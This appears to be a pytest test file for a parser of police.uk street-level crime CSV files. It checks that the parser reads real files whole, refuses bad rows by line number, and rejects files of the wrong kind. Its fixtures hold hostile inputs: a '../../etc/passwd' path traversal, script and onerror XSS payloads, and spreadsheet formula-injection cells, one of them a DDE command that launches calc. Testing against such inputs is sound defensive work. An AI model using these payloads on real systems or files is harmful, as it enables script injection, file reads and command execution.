"""Reading police.uk street-level crime files: the real files read whole; hostile files (columns
missing, bad coordinates, huge fields, NULs, formula-looking cells) refused row by row, each
named by its line, the rest kept; a file that is not one refused whole."""

from __future__ import annotations

import pytest

from controlroom.context.crimes import FileRefused, read_crimes

HEADING = (
    "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,"
    "Crime type,Last outcome category,Context"
)
GOOD = (
    "f728e0ff35120848c8990df9d46907faf1e331f781e9f7697b05489ad4a81de6,2019-01,Staffordshire "
    "Police,Staffordshire Police,-2.180340,53.023083,On or near Lydia Croft,E01009433,"
    "Stoke-on-Trent 001D,Burglary,Under investigation,"
)
ASB = (
    ",2019-01,Staffordshire Police,Staffordshire Police,-2.007345,52.719018,On or near Park,"
    "E01029386,Cannock Chase 005B,Anti-social behaviour,,"
)


def crimes_of(*lines: str):
    return read_crimes("\n".join([HEADING, *lines]).encode() + b"\n")


def test_the_real_files_are_read_whole(shared_data):
    for name, rows, placed in (
        ("2019-01-staffordshire-street_stoke-on-trent.csv", 3137, None),
        ("2019-01-staffordshire-street_every20th.csv", 487, 487 - 63),
    ):
        read = read_crimes((shared_data / "police_uk" / name).read_bytes())
        assert read.read == len(read.rows) == rows and read.refused == []
        if placed is not None:
            assert sum(r["lat"] is not None for r in read.rows) == placed
        assert all(r["month"] == "2019-01" and r["crime_type"] for r in read.rows)


def test_a_crime_is_keyed_by_its_id_and_one_without_by_its_content_and_place_in_the_file():
    read = crimes_of(GOOD, ASB, ASB, GOOD)
    keys = [r["key"] for r in read.rows]
    assert keys[0] == keys[3] == GOOD.split(",")[0]
    assert keys[1] != keys[2] and keys[1].startswith("row:") and keys[2].endswith(":2")
    assert read.rows[1]["crime_id"] is None and read.rows[1]["lat"] == pytest.approx(52.719018)
    assert crimes_of(ASB, ASB).rows[1]["key"] == keys[2]  # the same in another file


def _with(cell: int, value: str) -> str:
    cells = GOOD.split(",")
    cells[cell] = value
    return ",".join(cells)


HOSTILE = [
    (_with(4, "west"), "not numbers"),
    (_with(5, ""), "not numbers"),
    (_with(5, "91"), "off the earth"),
    (_with(4, "-181"), "off the earth"),
    (_with(4, "nan"), "off the earth"),
    (_with(5, "inf"), "off the earth"),
    (_with(4, "1e400"), "off the earth"),
    (_with(1, "2019-13"), "Month"),
    (_with(1, "January"), "Month"),
    (_with(1, ""), "Month"),
    (_with(9, ""), "Crime type is empty"),
    (_with(9, "x" * 101), "Crime type: 101 characters"),
    (_with(6, "On or near " + "y" * 100_000), "Location: 100011 characters"),
    (_with(11, "z" * 200_000), "not CSV: field larger than field limit"),
    (_with(6, "On or near \x00Street"), "NUL"),
    (_with(0, "../../etc/passwd"), "Crime ID"),
    (_with(6, "On or near <script>alert(1)</script>"), "Location: holds markup"),
    (_with(11, "<img src=x onerror=alert(1)>"), "Context: holds markup"),
    (_with(9, "</b>Burglary"), "Crime type: holds markup"),
    (_with(8, "<!-- Stoke 001A -->"), "LSOA name: holds markup"),
    (_with(5, "53.02<b>"), "Latitude: holds markup"),
    (GOOD + ",extra", "13 cells under a heading of 12"),
    ("2019-01,Burglary", "2 cells under a heading of 12"),
]


@pytest.mark.parametrize(("line", "why"), HOSTILE, ids=lambda v: repr(v)[:30])
def test_a_bad_row_is_named_by_its_line_and_the_rest_kept(line, why):
    read = crimes_of(GOOD, line, ASB)
    assert read.read == 3 and [r["crime_type"] for r in read.rows] == [
        "Burglary",
        "Anti-social behaviour",
    ]
    ((at, said),) = read.refused
    assert at == 3 and why in said, said


def test_formula_looking_cells_are_kept_as_the_text_they_are():
    formula = '"=HYPERLINK(""http://x.example/?""&A1,""click"")"'
    read = crimes_of(_with(6, formula), _with(10, "+cmd|' /C calc'!A0"), _with(7, "@SUM(1+1)"))
    assert read.refused == []
    assert read.rows[0]["location"] == '=HYPERLINK("http://x.example/?"&A1,"click")'
    assert read.rows[1]["outcome"] == "+cmd|' /C calc'!A0"
    assert read.rows[2]["lsoa_code"] == "@SUM(1+1)"


def test_a_quote_left_open_refuses_the_rows_it_swallows_not_the_file():
    read = crimes_of(GOOD, _with(6, '"On or near'), ASB, GOOD.replace("f728", "a728"))
    assert [r["key"][:4] for r in read.rows] == ["f728"] and read.refused[0][0] == 3


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "empty"),
        (b"Crime ID,Month,Location\nabc,2019-01,Here\n", "no Longitude, Latitude, Crime type"),
        ((HEADING + "\n" + GOOD).encode("utf-16"), "not UTF-8"),
        (HEADING.encode() + b"\n\xff\xfe,2019-01\n", "not UTF-8"),
    ],
)
def test_a_file_that_is_not_a_street_level_file_is_refused_whole(content, why):
    with pytest.raises(FileRefused, match=why):
        read_crimes(content)


def test_a_byte_order_mark_and_blank_lines_are_read_past():
    read = read_crimes(("\ufeff" + HEADING + "\n\n" + GOOD + "\r\n\r\n" + ASB).encode())
    assert len(read.rows) == 2 and read.refused == []
